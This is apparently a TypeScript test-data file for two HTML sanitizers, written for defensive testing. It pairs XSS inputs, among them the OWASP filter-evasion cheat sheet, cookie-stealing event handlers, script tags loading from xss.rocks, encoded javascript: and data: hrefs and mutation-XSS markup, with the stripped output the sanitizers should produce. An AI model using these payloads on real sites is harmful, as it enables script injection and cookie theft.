/**
 * Test data shared by the two sanitizers' tests (../html.test.ts in the browser's parser,
 * server/registries/html.test.ts with sanitize-html): the existing XSS cases and the OWASP XSS
 * filter-evasion cheat sheet. `html` is the expected output as a browser serializes it; where
 * engines may legitimately differ on malformed input only the safety check applies.
 */
import { HTML_TAGS, isSafeHref, LINK_REL, LINK_TARGET } from '../htmlPolicy';

export interface HtmlCase {
  input: string;
  /** The expected output after a browser re-parses and serializes it; omitted: safety only. */
  html?: string;
}

/** For `sanitizeHtml`: the allow-list, without attributes. */
export const htmlCases: HtmlCase[] = [
  // Our own cases (kept from the tokenizer's tests; outputs follow the HTML5 parsing rules).
  { input: '<p onclick="x()">Да <script>alert(1)</script><b>нет', html: '<p>Да <b>нет</b></p>' },
  { input: 'a<BR/>b<br>c', html: 'a<br>b<br>c' },
  { input: '<P>Текст</P>', html: '<p>Текст</p>' },
  {
    input: '<p class="x" onclick="alert(1)" style=\'color:red\'>Да</p>',
    html: '<p>Да</p>',
  },
  { input: '<b title="a > b">x</b>', html: '<b>x</b>' },
  {
    input: '<div><span>Газ</span> <a href="http://x.ru">ссылка</a></div>',
    html: 'Газ ссылка',
  },
  { input: '<img src=x onerror=alert(1)>после', html: 'после' },
  { input: 'a<script>alert("x")</script>b', html: 'ab' },
  { input: 'a<SCRIPT type="text/javascript">x</script >b', html: 'ab' },
  { input: 'a<style>p{}</style>b<iframe src="x">c</iframe>d', html: 'abd' },
  { input: 'a<object data="x"><param>z</object>b', html: 'ab' },
  { input: 'a<script>alert(1)', html: 'a' },
  { input: 'a<!-- <script>x</script> -->b<!DOCTYPE html>c<?xml x?>d', html: 'abcd' },
  { input: 'a<!-- never closed <b>x</b>', html: 'a' },
  { input: '1 < 2 > 0', html: '1 &lt; 2 &gt; 0' },
  { input: 'ООО «Газ» & Ко', html: 'ООО «Газ» &amp; Ко' },
  {
    input: '&lt;script&gt;alert(1)&lt;/script&gt; &nbsp; &#171;',
    html: '&lt;script&gt;alert(1)&lt;/script&gt; &nbsp; «',
  },
  { input: '< b>', html: '&lt; b&gt;' },
  { input: '<scr<script>ipt>alert(1)</script>', html: 'ipt&gt;alert(1)' },
  { input: '<<b>x</b>', html: '&lt;<b>x</b>' },
  { input: '<b>жирный', html: '<b>жирный</b>' },
  { input: '<ul><li>a<li>b</ul>', html: '<ul><li>a</li><li>b</li></ul>' },
  // Misnested and foreign-content markup: the browser's HTML5 tree builder and htmlparser2
  // reconstruct it differently (an extra <i>, a <p> breaking out of <svg>), both safely.
  { input: '<b><i>x</b>y</i>' },
  { input: 'Строка 1\nСтрока 2', html: 'Строка 1\nСтрока 2' },
  { input: '', html: '' },
  // OWASP XSS filter-evasion cheat sheet.
  { input: '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>', html: '' },
  { input: '<IMG SRC="javascript:alert(\'XSS\');">', html: '' },
  { input: "<IMG SRC=JaVaScRiPt:alert('XSS')>", html: '' },
  { input: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', html: '' },
  { input: '<a onmouseover="alert(document.cookie)">xxs link</a>', html: 'xxs link' },
  { input: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { input: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>', html: '' },
  { input: '<IMG SRC=# onmouseover="alert(\'xxs\')">', html: '' },
  { input: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', html: '' },
  {
    input: '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114">',
    html: '',
  },
  { input: '<IMG SRC="jav\tascript:alert(\'XSS\');">', html: '' },
  { input: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">', html: '' },
  { input: '<IMG SRC=java\0script:alert("XSS")>', html: '' },
  { input: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', html: '' },
  { input: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', html: '' },
  { input: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', html: '' },
  { input: '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>', html: '' },
  { input: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', html: '&lt;' },
  { input: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >', html: '' },
  { input: '<SCRIPT SRC=//xss.rocks/.j>', html: '' },
  { input: '<IMG SRC="`<javascript:alert>`(\'XSS\')"', html: '' },
  { input: '<iframe src=http://xss.rocks/scriptlet.html <', html: '' },
  { input: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', html: '' },
  { input: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', html: '' },
  { input: '<BODY BACKGROUND="javascript:alert(\'XSS\')">', html: '' },
  { input: '<IMG DYNSRC="javascript:alert(\'XSS\')">', html: '' },
  { input: '<IMG LOWSRC="javascript:alert(\'XSS\')">', html: '' },
  {
    input: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS<br>',
    html: '<ul><li>XSS<br></li></ul>',
  },
  { input: "<svg/onload=alert('XSS')>", html: '' },
  { input: '<svg><script>alert(1)</script><p>x</p></svg>после' },
  { input: '<svg><script>alert(1)</script></svg>после', html: 'после' },
  { input: '<BGSOUND SRC="javascript:alert(\'XSS\');">', html: '' },
  { input: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', html: '' },
  {
    input: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    html: '',
  },
  {
    input:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    html: '',
  },
  { input: '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD>x</TD></TABLE>', html: 'x' },
  { input: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>', html: 'x' },
  { input: '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>', html: 'x' },
  { input: '<p style="xss:expr/*XSS*/ession(alert(\'XSS\'))">x</p>', html: '<p>x</p>' },
  { input: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', html: '' },
  { input: "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>", html: '' },
  { input: '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>', html: '' },
  { input: '<BASE HREF="javascript:alert(\'XSS\');//">', html: '' },
  {
    input: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    html: '',
  },
  {
    input:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    html: '',
  },
  { input: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>', html: '' },
  { input: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', html: '' },
  { input: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>', html: '' },
  { input: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->", html: '' },
  { input: '<XSS STYLE="xss:expression(alert(\'XSS\'))">', html: '' },
  {
    input:
      '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS&lt;SCRIPT DEFER&gt;alert(&quot;XSS&quot;)&lt;/SCRIPT&gt;"></BODY></HTML>',
    html: '',
  },
  { input: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>', html: '' },
  { input: '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>', html: '' },
  { input: '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>' },
  { input: '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>' },
  {
    input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    html: 'x',
  },
  { input: "<b title='\"><script>alert(1)</script>'>x</b>", html: '<b>x</b>' },
  { input: '<b><i><u>x', html: '<b><i><u>x</u></i></b>' },
  { input: '<scr\0ipt>alert(1)</scr\0ipt>' },
  { input: 'a\0b', html: 'ab' },
  { input: '<IMG SRC="javascript:alert(\'XSS\')"', html: '' },
  { input: '<textarea><script>alert(1)</script></textarea>', html: '' },
  { input: '<title><img src=x onerror=alert(1)></title>', html: '' },
  // Mutation XSS: markup that means one thing in a raw-text element and another outside it.
  { input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { input: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { input: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
];

/** For `sanitizeTooltip`: links only, with a safe href. */
export const tooltipCases: HtmlCase[] = [
  {
    input: 'См. <a href="https://eog.ru/a?b=1&amp;c=2" class="x">сайт</a>',
    html: 'См. <a href="https://eog.ru/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">сайт</a>',
  },
  {
    input: '<b>жирный</b> <a href="/crm/leads">заявки</a>',
    html: 'жирный <a href="/crm/leads" rel="noopener noreferrer" target="_blank">заявки</a>',
  },
  {
    input: "<a href='mailto:info@eog.ru'>почта</a>",
    html: '<a href="mailto:info@eog.ru" rel="noopener noreferrer" target="_blank">почта</a>',
  },
  {
    input: '<a href="  https://eog.ru  " onclick="x()">с пробелами</a>',
    html: '<a href="https://eog.ru" rel="noopener noreferrer" target="_blank">с пробелами</a>',
  },
  { input: '<a name="x">без ссылки</a>', html: 'без ссылки' },
  { input: '<script>alert(1)</script>текст', html: 'текст' },
  { input: '<a href="javascript:alert(1)" href="https://eog.ru">x</a>', html: 'x' },
  // Dangerous schemes in every spelling a browser still reads as that scheme.
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java\0script:alert(1)',
    ' javascript:alert(1)',
    ' &#14;  javascript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1)',
    'jav&#x09;ascript:alert(1)',
    'jav&#x0A;ascript:alert(1)',
    'jav&#x0D;ascript:alert(1)',
    'javas&Tab;cript:alert(1)',
    'javascript&colon;alert(1)',
    'JaVaScRiPt&#58;alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
  ].map((href) => ({ input: `<a href="${href}">x</a>`, html: 'x' })),
  { input: '<a href=javascript:alert(1)>x</a>', html: 'x' },
  { input: '<a href="">пусто</a>', html: 'пусто' },
];

/** What a browser makes of `html`: parsed in an inert document and serialized again. */
export function reparse(html: string): string {
  const doc = new DOMParser().parseFromString(`<!DOCTYPE html><body>${html}`, 'text/html');
  return doc.body.innerHTML;
}

/**
 * Why `html`, as a browser parses it, could run code or restyle the page, or null when it is
 * safe: only the allowed elements, no attribute on formatting tags, links only with a safe href,
 * rel and target.
 */
export function unsafeIn(html: string, mode: 'html' | 'tooltip'): string | null {
  const doc = new DOMParser().parseFromString(`<!DOCTYPE html><body>${html}`, 'text/html');
  for (const element of Array.from(doc.body.querySelectorAll('*'))) {
    const name = element.localName;
    const attributes = element.getAttributeNames().sort().join(',');
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') return `foreign <${name}>`;
    if (mode === 'html') {
      if (!HTML_TAGS.includes(name)) return `<${name}>`;
      if (attributes) return `<${name} ${attributes}>`;
    } else {
      if (name !== 'a') return `<${name}>`;
      if (attributes !== 'href,rel,target') return `<a ${attributes}>`;
      if (!isSafeHref(element.getAttribute('href')!)) return `href ${element.getAttribute('href')}`;
      if (
        element.getAttribute('rel') !== LINK_REL ||
        element.getAttribute('target') !== LINK_TARGET
      )
        return 'rel/target';
    }
  }
  return null;
}
